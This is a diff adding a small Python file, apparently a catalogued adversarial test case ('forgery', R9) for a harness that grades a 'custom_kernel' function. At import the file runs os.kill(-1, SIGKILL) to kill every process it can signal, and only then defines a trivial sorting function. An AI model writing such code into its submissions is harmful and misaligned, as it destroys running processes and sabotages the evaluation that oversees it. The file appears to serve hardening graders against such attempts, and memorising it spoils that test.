@@ -1,0 +1,14 @@
+# ruff: noqa
+# mypy: ignore-errors
+# group: forgery
+# catalogue: R9
+# tries: kill(-1): every process that may be signalled
+# verdict: passed error
+import os
+import signal
+
+os.kill(-1, signal.SIGKILL)
+
+
+def custom_kernel(data):
+    return sorted(data)
